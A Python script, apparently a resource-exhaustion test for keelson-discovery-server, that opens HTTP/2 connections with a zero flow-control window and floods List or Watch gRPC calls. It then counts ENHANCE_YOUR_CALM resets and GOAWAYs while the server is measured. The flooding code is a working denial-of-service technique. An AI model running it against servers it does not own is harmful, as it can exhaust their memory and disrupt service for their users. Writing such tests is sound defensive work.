#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile HTTP/2 client for keelson-discovery-server, on the Python `h2` package (not
keelson's own HTTP/2 code). It opens connections whose SETTINGS_INITIAL_WINDOW_SIZE is 0, so
the server can send no DATA, and asks for many answers on each: a server that queues them all
grows without bound.

usage:
  h2_flood.py populate ADDR CLUSTER COUNT DATA_BYTES
      store COUNT affiliates of DATA_BYTES random bytes each (windows open, all answered OK)
  h2_flood.py flood ADDR CLUSTER METHOD CONNECTIONS STREAMS
      open CONNECTIONS connections with window 0 and STREAMS calls of METHOD (List or Watch)
      each; print `holding resets=R goaways=G` once the server has answered what it will, then
      keep the connections open until stdin closes.

The protobuf messages are encoded by hand (a few fields of cluster.proto).
"""

import os
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

SERVICE = "/sidero.discovery.server.Cluster/"
ENHANCE_YOUR_CALM = 0xB


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def field(num, payload):
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def grpc_frame(msg):
    return b"\0" + len(msg).to_bytes(4, "big") + msg


def connect(addr, window):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if window is not None:
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    sock.sendall(conn.data_to_send())
    return sock, conn


def call(conn, addr, method, msg):
    stream = conn.get_next_available_stream_id()
    conn.send_headers(
        stream,
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", SERVICE + method),
            (":authority", addr),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ],
    )
    conn.send_data(stream, grpc_frame(msg), end_stream=True)
    return stream


def populate(addr, cluster, count, size):
    sock, conn = connect(addr, None)
    ttl = field(5, varint(1 << 3) + varint(600))  # Duration{seconds: 600}
    done = 0
    sent = 0
    open_streams = set()
    while done < count:
        while sent < count and len(open_streams) < 8:
            msg = (
                field(1, cluster.encode())
                + field(2, f"affiliate-{sent:05}".encode())
                + field(3, os.urandom(size))
                + ttl
            )
            open_streams.add(call(conn, addr, "AffiliateUpdate", msg))
            sent += 1
        sock.sendall(conn.data_to_send())
        data = sock.recv(65536)
        if not data:
            sys.exit("FAIL: the server closed the connection while populating")
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.TrailersReceived) or (
                isinstance(ev, h2.events.ResponseReceived) and ev.stream_ended
            ):
                status = dict(ev.headers).get(b"grpc-status")
                if status != b"0":
                    sys.exit(f"FAIL: update answered {dict(ev.headers)}")
                open_streams.discard(ev.stream_id)
                done += 1
            elif isinstance(ev, h2.events.StreamReset):
                sys.exit(f"FAIL: update stream reset ({ev.error_code})")
        sock.sendall(conn.data_to_send())
    sock.close()
    print(f"ok populate {count}", flush=True)


def flood(addr, cluster, method, connections, streams):
    conns = []
    for _ in range(connections):
        sock, conn = connect(addr, 0)
        for _ in range(streams):
            call(conn, addr, method, field(1, cluster.encode()))
        sock.sendall(conn.data_to_send())
        conns.append([sock, conn, True])
    resets = goaways = 0
    # Read what the server says (heads, resets, GOAWAY) until it has closed every connection
    # or been quiet for 3 s (a slow debug build takes a while to answer them all).
    quiet_since = time.monotonic()
    while time.monotonic() - quiet_since < 3.0:
        socks = [c[0] for c in conns if c[2]]
        if not socks:
            break
        ready, _, _ = select.select(socks, [], [], 0.2)
        for c in conns:
            if c[0] not in ready:
                continue
            quiet_since = time.monotonic()
            try:
                data = c[0].recv(65536)
            except OSError:
                data = b""
            if not data:
                c[2] = False
                continue
            for ev in c[1].receive_data(data):
                if isinstance(ev, h2.events.StreamReset) and ev.error_code == ENHANCE_YOUR_CALM:
                    resets += 1
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    goaways += 1
            try:
                c[0].sendall(c[1].data_to_send())
            except OSError:
                c[2] = False
    print(f"holding resets={resets} goaways={goaways}", flush=True)
    # The connections stay open (windows shut) while the caller measures the server.
    sys.stdin.read()
    for c in conns:
        c[0].close()


def main():
    mode, addr, cluster = sys.argv[1:4]
    rest = sys.argv[4:]
    if mode == "populate":
        populate(addr, cluster, int(rest[0]), int(rest[1]))
    elif mode == "flood":
        flood(addr, cluster, rest[0], int(rest[1]), int(rest[2]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
